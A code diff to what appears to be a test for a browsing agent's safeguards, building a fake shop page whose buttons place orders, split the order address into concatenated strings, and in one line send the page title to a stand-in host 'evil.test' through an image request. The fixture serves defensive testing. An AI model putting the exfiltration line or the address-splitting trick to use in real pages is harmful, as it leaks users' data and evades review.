@@ -10,9 +10,10 @@ const server = scriptedModel();
 /** What arrived at the sites, such as `POST shop.test/api/place-order`. */
 const arrived: string[] = [];
 
+/** An address that stands in one piece in a script is read beforehand, and asked about. */
 const PAGE = `<!doctype html><title>Shop</title><h1>Shop</h1>
-<button onclick="fetch('/api/place-order', { method: 'POST', body: 'mug' })">More</button>
-<button onclick="setTimeout(() => fetch('/api/place-order', { method: 'POST' }), 300)">Later</button>
+<button onclick="fetch('/api/place' + '-order', { method: 'POST', body: 'mug' })">More</button>
+<button onclick="setTimeout(() => fetch('/api/place' + '-order', { method: 'POST' }), 300)">Later</button>
 <button onclick="fetch('/api/views', { method: 'POST' })">Show</button>
 <button onclick="new Image().src = 'http://evil.test/?' + document.title">Picture</button>
 <button onclick="document.querySelector('form').submit()">Tab</button>
